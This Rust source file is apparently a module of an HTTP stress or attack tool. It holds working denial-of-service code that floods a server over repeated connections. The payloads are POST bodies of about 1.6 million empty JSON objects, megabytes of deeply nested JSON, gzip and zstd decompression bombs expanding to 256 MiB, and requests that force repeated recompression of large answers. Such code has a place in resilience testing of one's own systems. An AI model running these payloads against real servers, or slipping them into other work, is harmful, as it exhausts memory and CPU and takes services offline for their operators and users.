//! Abuse by bodies: short ones that are much work, and answers that are.

use std::io::{self, Write as _};

use anyhow::{Context as _, Result};
use flate2::Compression;
use flate2::write::GzEncoder;

use super::http1::fields;
use crate::attack::Attack;
use crate::http1::post;

/// The most that fits a body.
const EMPTY_COUNT: usize = 1_600_000;
const NESTING_BYTES: usize = 4 << 20;
/// Much more than fits a body.
const BLANK_BYTES: usize = 256 << 20;
const ZSTD_LEVEL: i32 = 3;

fn empty_batch() -> Vec<u8> {
    format!("[{}{{}}]", "{},".repeat(EMPTY_COUNT)).into_bytes()
}

/// Sends one of these requests after the other, by turns, and reads the answers.
fn send_by_turns(attack: &Attack<'_>, requests: &[Vec<u8>]) -> Result<()> {
    attack.repeat(|lane| {
        for request in requests.iter().cycle().skip(lane).take(requests.len()) {
            let mut connection = attack.connect()?;
            // A server that has no room for it says so before all of it is sent.
            let _ = connection.write_all(request);
            connection.read_answers(1)?;
        }
        Ok(())
    })
}

/// Requests that are as short as can be.
pub(super) fn empty_batches(attack: &Attack<'_>) -> Result<()> {
    let batch = empty_batch();
    send_by_turns(attack, &[0, 1].map(|path| post(fields(path), &batch)))
}

/// Values inside of values.
pub(super) fn nesting(attack: &Attack<'_>) -> Result<()> {
    let object = br#"{"a":"#;
    let bodies = [vec![b'['; NESTING_BYTES], object.repeat(NESTING_BYTES / object.len())];
    let both = |body: &Vec<u8>| [0, 1].map(|path| post(fields(path), body));
    let requests: Vec<Vec<u8>> = bodies.iter().flat_map(both).collect();
    send_by_turns(attack, &requests)
}

/// Bodies that become large.
pub(super) fn gzip_bombs(attack: &Attack<'_>) -> Result<()> {
    bombs(attack, "gzip", |bytes| {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(bytes)?;
        encoder.finish()
    })
}

/// The same in another encoding.
pub(super) fn zstd_bombs(attack: &Attack<'_>) -> Result<()> {
    bombs(attack, "zstd", |bytes| zstd::stream::encode_all(bytes, ZSTD_LEVEL))
}

fn bombs(
    attack: &Attack<'_>,
    encoding: &str,
    pack: impl Fn(&[u8]) -> io::Result<Vec<u8>>,
) -> Result<()> {
    let field = format!("content-encoding: {encoding}\r\n");
    let bodies = [vec![b' '; BLANK_BYTES], empty_batch()];
    let packed = bodies.iter().map(|body| pack(body).map(|packed| post(&field, &packed)));
    let requests = packed.collect::<io::Result<Vec<_>>>().context("a bomb")?;
    drop(bodies);
    send_by_turns(attack, &requests)
}

/// Answers that are compressed again for every client.
pub(super) fn packed_answers(attack: &Attack<'_>) -> Result<()> {
    let encodings = ["br", "gzip", "zstd"];
    let asked = |encoding: &str| {
        post(&format!("accept-encoding: {encoding}\r\n"), attack.largest.batch.as_bytes())
    };
    send_by_turns(attack, &encodings.map(asked))
}
